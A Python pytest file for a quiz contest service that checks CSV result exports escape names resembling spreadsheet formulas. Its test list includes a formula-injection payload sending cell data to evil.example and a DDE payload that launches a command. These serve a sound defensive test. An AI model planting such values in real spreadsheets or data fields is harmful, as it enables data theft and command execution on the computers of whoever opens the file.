"""Pain 17: a name such as ``=HYPERLINK(…)`` is run by the spreadsheet of the official who opens the results."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from quizsvc.contests.queries import round_by_public_id
from quizsvc.core.chance import SystemChance
from quizsvc.core.db import reading, transaction
from quizsvc.core.spreadsheet import BOM, csv_lines, guarded
from quizsvc.organizers.acting import SYSTEM
from quizsvc.organizers.models import AuditRow
from quizsvc.sealing.conditions import Order
from quizsvc.sealing.kinds import Kind
from quizsvc.sealing.service import seal_round
from tests.commands.conftest import command
from tests.world import THANH_VINH, Player, make_contest, right_answers

__all__ = ["command"]
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "Lê Văn Bình",
]


@pytest.fixture
def sealed(phone, clock):
    """A round in which people with such names took part, each a little slower than the one before, sealed."""
    make_contest(clock.now)
    for number, name in enumerate(EVIL):
        player = Player(phone, number + 1, name).in_unit(THANH_VINH)
        attempt = player.start().json
        clock.advance(seconds=10 + number)
        assert player.submit(attempt, answers=right_answers(attempt)).status_code == 200
    clock.advance(hours=2)
    with transaction() as session:
        found = round_by_public_id(session, "thi.r1")
        order = Order(Kind.PROVISIONAL, "Kết thúc vòng")
        seal_round(session, found, order, actor=SYSTEM, now=clock.now, chance=SystemChance())


@pytest.mark.usefixtures("sealed")
def test_names_that_look_like_formulas_come_out_as_text(command, world_url, tmp_path):
    file = tmp_path / "ket-qua.csv"
    done = command(world_url, "contests", "results", "thi.r1", file, "--reason", "Họp ban tổ chức")
    assert (done.status, done.complained) == (0, "")
    assert "5 người, bản niêm phong số 1" in done.said
    with file.open(encoding="utf-8-sig", newline="") as written:
        header, *rows = csv.reader(written)
    names = [dict(zip(header, row, strict=True))["Họ tên"] for row in rows]
    assert names == ["'" + name for name in EVIL[:4]] + EVIL[4:]
    assert all(not cell.startswith(("=", "+", "@")) for row in [header, *rows] for cell in row)
    with reading() as session:
        kept = session.scalars(select(AuditRow).where(AuditRow.action == "results.export")).one()
    assert kept.after["rows"] == 5
    assert "Bình" not in str(kept.after)


@pytest.mark.usefixtures("playground")
def test_nothing_sealed_is_one_clear_line(command, world_url, tmp_path):
    file = tmp_path / "ket-qua.csv"
    done = command(world_url, "contests", "results", "thi.r1", file, "--reason", "Thử lệnh")
    assert done.status == 1
    assert "chưa có bản niêm phong" in done.complained
    assert not file.exists()


@given(st.text(max_size=30))
def test_whatever_people_write_no_cell_begins_a_formula(text):
    written = guarded(text)
    assert isinstance(written, str)
    assert written.lstrip(" \N{NO-BREAK SPACE}")[:1] not in {*"=+-@\t\r\n＝＋－＠"} - {""}
    assert written.removeprefix("'") == text or written == text


@given(st.lists(st.tuples(st.text(max_size=10), st.integers()), max_size=5))
def test_a_file_read_again_has_the_same_cells(rows):
    lines = "".join(csv_lines(["=Họ tên", "Số"], rows)).removeprefix(BOM)
    found = list(csv.reader(lines.splitlines(keepends=True)))
    expected = [["'=Họ tên", "Số"]] + [[guarded(text), str(number)] for text, number in rows]
    if not any(set("\r\n\0\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029") & set(text) for text, _ in rows):
        assert found == expected


def test_a_number_stays_a_number():
    assert guarded(-5) == -5
